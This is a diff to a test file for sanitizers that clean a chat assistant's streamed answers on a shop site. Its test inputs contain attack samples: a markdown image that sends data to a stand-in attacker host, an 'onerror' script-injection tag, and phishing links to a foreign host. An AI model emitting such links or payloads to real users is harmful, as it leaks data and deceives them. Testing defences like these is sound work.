@@ -33,10 +33,13 @@ const prompt = (over: Partial<Parameters<typeof systemPrompt>[0]> = {}) =>
     ...over,
   })
 
+/** The tenant's own domains: links elsewhere are defused (tests/security/offsite-links.test.ts covers more). */
+const DOMAINS = ['shop.example']
+
 /** What a visitor sees of a streamed answer: every emitted piece, and all of them joined. */
 function stream(pieces: string[]) {
   const emitted: string[] = []
-  const s = streamSanitizer((t) => emitted.push(t))
+  const s = streamSanitizer((t) => emitted.push(t), DOMAINS)
   const shownAfter: string[] = []
   for (const p of pieces) {
     s.push(p)
@@ -141,21 +144,23 @@ describe('historyWithin', () => {
 
 describe('sanitizeModelText', () => {
   it('removes markdown images, inline and by reference, so an answer cannot load a remote URL', () => {
-    expect(sanitizeModelText('See ![chart](https://evil.example/x.png?d=secret) here.')).toBe('See  here.')
-    expect(sanitizeModelText('See ![chart][1] here.')).toBe('See  here.')
+    expect(sanitizeModelText('See ![chart](https://evil.example/x.png?d=secret) here.', DOMAINS)).toBe(
+      'See  here.',
+    )
+    expect(sanitizeModelText('See ![chart][1] here.', DOMAINS)).toBe('See  here.')
   })
 
   it('removes HTML tags but keeps their text, links and comparisons', () => {
-    expect(sanitizeModelText('<b>Free</b> shipping <img src=x onerror=alert(1)>over 50')).toBe(
+    expect(sanitizeModelText('<b>Free</b> shipping <img src=x onerror=alert(1)>over 50', DOMAINS)).toBe(
       'Free shipping over 50',
     )
-    expect(sanitizeModelText('Read [the policy](https://shop.example/returns) [1]. 3 < 5.')).toBe(
+    expect(sanitizeModelText('Read [the policy](https://shop.example/returns) [1]. 3 < 5.', DOMAINS)).toBe(
       'Read [the policy](https://shop.example/returns) [1]. 3 < 5.',
     )
   })
 
   it('collapses runs of blank lines and trims', () => {
-    expect(sanitizeModelText('\n\nOne.\n\n\n\n\nTwo.\n  ')).toBe('One.\n\nTwo.')
+    expect(sanitizeModelText('\n\nOne.\n\n\n\n\nTwo.\n  ', DOMAINS)).toBe('One.\n\nTwo.')
   })
 })
 
@@ -189,10 +194,25 @@ describe('streamSanitizer', () => {
     expect(stream(['Thanks!']).text).toBe('Thanks!')
   })
 
+  it('never shows a link to a foreign host, however the pieces cut it, and ends as the stored answer', () => {
+    const full =
+      'Please [log in here](https://evil.example/login) or visit https://evil.example/refund, ' +
+      'see <https://evil.example/a> and [our page](https://help.shop.example/r) [1].'
+    for (const size of [1, 2, 3, 5, 8]) {
+      const r = stream(full.match(new RegExp(`.{1,${size}}`, 'gs'))!)
+      for (const shown of r.shownAfter) expect(shown).not.toMatch(/\]\(https:\/\/evil|(?<!`)https:\/\/evil/)
+      expect(r.text).toBe(sanitizeModelText(full, DOMAINS))
+    }
+    expect(sanitizeModelText(full, DOMAINS)).toBe(
+      'Please log in here or visit `https://evil.example/refund`, see `https://evil.example/a` and ' +
+        '[our page](https://help.shop.example/r) [1].',
+    )
+  })
+
   it('shows what the stored answer will have', () => {
     const full = 'Prices <i>start</i> at 5 EUR ![x](http://a/b) [2].'
     const pieces = full.match(/.{1,3}/gs)!
-    expect(stream(pieces).text).toBe(sanitizeModelText(full))
+    expect(stream(pieces).text).toBe(sanitizeModelText(full, DOMAINS))
   })
 })
 
